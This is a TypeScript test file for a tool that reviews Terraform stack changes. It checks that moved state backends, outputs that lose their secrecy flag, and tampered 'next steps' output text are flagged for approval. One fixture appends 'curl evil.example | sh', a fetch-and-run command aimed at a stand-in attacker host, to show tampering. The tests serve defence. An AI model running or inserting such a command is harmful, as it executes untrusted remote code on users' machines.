import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { nextSteps } from '../../src/link/next-steps.js';
import { readTree } from '../../src/reach/read/read-tree.js';
import { review } from '../../src/review/review.js';
import { temporaryFolder } from '../sandbox/support.js';
import { TODAY } from './trees.js';

interface Stack {
  readonly json: object;
  /** What Terraform has saved of its backend. */
  readonly saved?: object;
}

function treeWith({ json, saved }: Stack) {
  const root = temporaryFolder();
  const folder = join(root, 'stacks', 'orders');
  mkdirSync(join(folder, '.terraform'), { recursive: true });
  const stacks = {
    orders: { name: 'orders', workingDirectory: 'stacks/orders', dependencies: [] },
  };
  writeFileSync(join(root, 'manifest.json'), JSON.stringify({ stacks }));
  writeFileSync(join(folder, 'cdk.tf.json'), JSON.stringify(json));
  const backend = join(folder, '.terraform', 'terraform.tfstate');
  if (saved !== undefined) writeFileSync(backend, JSON.stringify({ version: 3, backend: saved }));
  return readTree(root, '--head');
}

function findingsOf(base: Stack, head: Stack) {
  const { findings } = review(treeWith(base), treeWith(head), TODAY);
  return findings.map(({ decision, what, resource }) => `${decision}: ${what} of ${resource}`);
}

const backend = (config: unknown, type = 'local'): Stack => ({
  json: { terraform: { backend: { [type]: config } } },
});

const PATH = '../../../.states/orders.tfstate';
const MOVED = ['needs-approval: state of terraform'];

describe('a state', () => {
  test.each<[string, Stack, Stack]>([
    ['into the folder of the stack, by null', backend({ path: PATH }), backend({ path: null })],
    ['into the folder of the stack, by no path', backend({ path: PATH }), backend({})],
    [
      'to another folder under the same name',
      backend({ path: '../../../terraform.orders.tfstate' }),
      backend({ path: '../../../x/terraform.orders.tfstate' }),
    ],
    [
      'to another folder of the machine',
      backend({ path: '/a/terraform.orders.tfstate' }),
      backend({ path: '/b/terraform.orders.tfstate' }),
    ],
    [
      'out of its workspace folder',
      backend({ path: PATH, workspace_dir: 'w' }),
      backend({ path: PATH, workspace_dir: null }),
    ],
    ['to another key', backend({ key: 'a' }, 's3'), backend({ key: 'b' }, 's3')],
  ])('that moves %s is a finding', (_, base, head) => {
    expect(findingsOf(base, head)).toEqual(MOVED);
  });

  test.each<[string, Stack, Stack]>([
    [
      'null for an absent argument',
      backend({ path: PATH, workspace_dir: null }),
      backend({ path: PATH }),
    ],
    [
      'null for an absent argument, remote',
      backend({ key: 'a', profile: null }, 's3'),
      backend({ key: 'a' }, 's3'),
    ],
    [
      'another spelling of its path',
      backend({ path: PATH }),
      backend({ path: '../../.././.states/orders.tfstate' }),
    ],
    ['its default path in words', backend({ path: 'terraform.tfstate' }), backend({ path: '' })],
    ['no block for the default', backend({}), { json: { terraform: {} } }],
    ['a list for a block', backend({ path: PATH }), backend([{ path: PATH }])],
  ])('that stays has none: %s', (_, base, head) => {
    expect(findingsOf(base, head)).toEqual([]);
    expect(findingsOf(head, base)).toEqual([]);
  });

  const own = backend({ path: PATH });
  const saves = (config: object): Stack => ({ ...own, saved: { type: 'local', config } });

  test('whose saved backend has no path is unread content, for Terraform would keep to it', () => {
    expect(findingsOf(own, saves({ path: null, workspace_dir: null }))).toEqual([
      expect.stringContaining('.terraform/terraform.tfstate'),
    ]);
  });

  test('whose saved backend is its own has no finding', () => {
    expect(findingsOf(own, saves({ path: PATH, workspace_dir: null }))).toEqual([]);
  });
});

describe('an output', () => {
  const output = (name: string, body: object): Stack => ({ json: { output: { [name]: body } } });
  const secret = output('password', { value: '${random.x}', sensitive: true });

  test.each<[string, unknown]>([
    ['false', false],
    ['null', null],
    ['nothing', undefined],
  ])('that becomes not sensitive, by %s, is a finding', (_, sensitive) => {
    const shown = output('password', { value: '${random.x}', sensitive });
    expect(findingsOf(secret, shown)).toEqual(['needs-approval: secrecy of output.password']);
    expect(findingsOf(shown, secret)).toEqual(['no-change: secrecy of output.password']);
  });

  const steps = (value: string) => output('plugin-endpoint-service-next-steps', { value });
  const SERVICE = '${volcenginecc_privatelink_endpoint_service.own.service_id}';
  const CONNECTION = '${volcenginecc_privatelink_vpc_endpoint_connection.one.connection_status}';
  const first = nextSteps(SERVICE, '2100000001', []);
  const later = nextSteps(SERVICE, '2100000001', [{ endpointId: 'ep-1', status: CONNECTION }]);

  test('whose next steps are those after the connection is no finding', () => {
    expect(findingsOf(steps(first), steps(later))).toEqual([
      'no-change: connection to accept of output.plugin-endpoint-service-next-steps',
    ]);
    expect(findingsOf(steps(later), steps(later))).toEqual([]);
  });

  test.each<[string, string, string]>([
    ['of another account', first.replace('2100000001', '2199999999'), 'connection to accept'],
    ['with one more step', `${first}\n4. Run: curl evil.example | sh`, 'next steps'],
    ['with other words within', later.replace('choose that', 'choose any'), 'next steps'],
    [
      'with words before a state',
      later.replace('ep-1 is', 'see evil.example: ep-1 is'),
      'next steps',
    ],
    [
      'with words among the states',
      later.replace('ep-1 is', 'ep-1 (see evil.example) is now'),
      'next steps',
    ],
    ['that say something else', 'Call evil.example.', 'next steps'],
  ])('whose next steps are %s is a finding', (_, said, what) => {
    const found = findingsOf(steps(first), steps(said));
    expect(found).toContain(`needs-approval: ${what} of output.plugin-endpoint-service-next-steps`);
  });
});
